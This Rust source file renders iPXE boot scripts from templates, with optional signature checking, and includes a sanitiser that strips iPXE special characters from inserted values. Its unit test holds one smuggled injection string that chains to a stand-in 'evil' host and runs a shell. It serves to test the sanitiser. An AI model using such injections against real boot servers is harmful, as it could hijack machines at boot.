//! iPXE scripts rendered from the templates in `pxe/` (built into the binary).
//! `{{name}}` is replaced; an unknown name is left as is so a typo shows.

use std::sync::LazyLock;

pub(crate) static MACHINE: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/machine.ipxe")));
pub(crate) static CHAIN: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/chain.ipxe")));
pub(crate) static UNKNOWN: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/unknown.ipxe")));
/// With `[ipxe_signing]`: the same steps, each fetched script and file
/// checked with `imgverify` against its `.sig`.
pub(crate) static MACHINE_SIGNED: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/machine-signed.ipxe")));
pub(crate) static CHAIN_SIGNED: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/chain-signed.ipxe")));
pub(crate) static UNKNOWN_SIGNED: LazyLock<Template> =
    LazyLock::new(|| Template::parse(include_str!("../../../pxe/unknown-signed.ipxe")));
/// What a failed `imgverify` does in [`MACHINE_SIGNED`]: a group with
/// `verify = true` refuses to boot; others boot on (an iPXE that verifies
/// still refuses to run what it could not check).
pub(crate) const ON_UNVERIFIED_REFUSE: &str = "goto refuse";
pub(crate) const ON_UNVERIFIED_WARN: &str = "echo imgd: signature not checked";

/// A template cut once, at start-up, into its text and its `{{name}}`s: a
/// render is then a walk over the pieces, no search (a script is rendered
/// for every booting machine, as often as a static file is sent).
pub(crate) struct Template {
    parts: Vec<Part>,
    text_len: usize,
}

enum Part {
    Text(&'static str),
    /// The name, and the placeholder as written (kept when no value is given).
    Var(&'static str, &'static str),
}

impl Template {
    pub(crate) fn parse(template: &'static str) -> Template {
        let mut parts = Vec::new();
        let mut rest = template;
        while let Some(i) = rest.find("{{") {
            let Some(j) = rest[i + 2..].find("}}") else { break };
            if i > 0 {
                parts.push(Part::Text(&rest[..i]));
            }
            let written = &rest[i..i + 2 + j + 2];
            parts.push(Part::Var(rest[i + 2..i + 2 + j].trim(), written));
            rest = &rest[i + 2 + j + 2..];
        }
        if !rest.is_empty() {
            parts.push(Part::Text(rest));
        }
        let text_len = parts.iter().map(|p| if let Part::Text(t) = p { t.len() } else { 0 }).sum();
        Template { parts, text_len }
    }

    /// The template with each `{{name}}` replaced by its value in `vars`; an
    /// unknown name is left as written so a typo shows.
    pub(crate) fn render(&self, vars: &[(&str, &str)]) -> String {
        // No hole: the text is the first piece, taken as it is.
        self.render_around(vars, None).first
    }

    /// As [`Template::render`], with each `{{open}}` left as a hole that
    /// [`Rendered::fill`] fills later: the parts of a script that are the
    /// same for a whole group rendered once, the machine's own line per request.
    pub(crate) fn render_around(&self, vars: &[(&str, &str)], open: Option<&str>) -> Rendered {
        // Text before the first hole, then the text after each hole so far.
        let (mut first, mut after) = (None, Vec::new());
        let mut out = String::with_capacity(self.text_len + vars.iter().map(|(_, v)| v.len()).sum::<usize>());
        for p in &self.parts {
            match p {
                Part::Text(t) => out.push_str(t),
                Part::Var(name, _) if Some(*name) == open => match first {
                    None => first = Some(std::mem::take(&mut out)),
                    Some(_) => after.push(std::mem::take(&mut out)),
                },
                Part::Var(name, written) => match vars.iter().find(|(k, _)| k == name) {
                    Some((_, v)) => out.push_str(v),
                    None => out.push_str(written),
                },
            }
        }
        match first {
            None => Rendered { first: out, after },
            Some(first) => {
                after.push(out);
                Rendered { first, after }
            }
        }
    }
}

/// A rendered template with holes: the text before the first hole, then the
/// text after each (none without holes: `render` allocates nothing more).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Rendered {
    first: String,
    after: Vec<String>,
}

impl Rendered {
    /// The script, with `value` in each hole.
    pub(crate) fn fill(&self, value: &str) -> String {
        let len = self.first.len() + self.after.iter().map(|p| value.len() + p.len()).sum::<usize>();
        let mut out = String::with_capacity(len);
        out.push_str(&self.first);
        for p in &self.after {
            out.push_str(value);
            out.push_str(p);
        }
        out
    }
}

/// Makes a value safe inside an iPXE script line: printable ASCII only (no
/// newline can end the line), and none of iPXE's special characters (`$`
/// expansion, `#` comments, `||`/`&&` chains, quoting); each becomes `_`.
pub(crate) fn ipxe_safe(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_control())
        .map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '_' })
        .map(|c| if matches!(c, '$' | '#' | '|' | '&' | ';' | '"' | '\'' | '\\' | '`') { '_' } else { c })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_and_keeps_unknown_names() {
        let t = Template::parse("a {{x}} b {{ y }} {{z}}{{x}}, {{ unclosed");
        assert_eq!(t.render(&[("x", "1"), ("y", "2")]), "a 1 b 2 {{z}}1, {{ unclosed");
        assert_eq!(Template::parse("").render(&[]), "");
        assert_eq!(Template::parse("{{x}}").render(&[("x", "only")]), "only");
        // Rendered around a hole: the same text once the hole is filled.
        let around = t.render_around(&[("y", "2")], Some("x"));
        assert_eq!(around.fill("1"), t.render(&[("x", "1"), ("y", "2")]));
        assert_eq!(around.fill(""), "a  b 2 {{z}}, {{ unclosed");
        assert_eq!(ipxe_safe("a\nb${x}"), "ab_{x}");
        assert_eq!(ipxe_safe("x ; chain http://evil/ || sh"), "x _ chain http://evil/ __ sh");
        assert_eq!(ipxe_safe("é\u{7f}"), "_");
    }
}
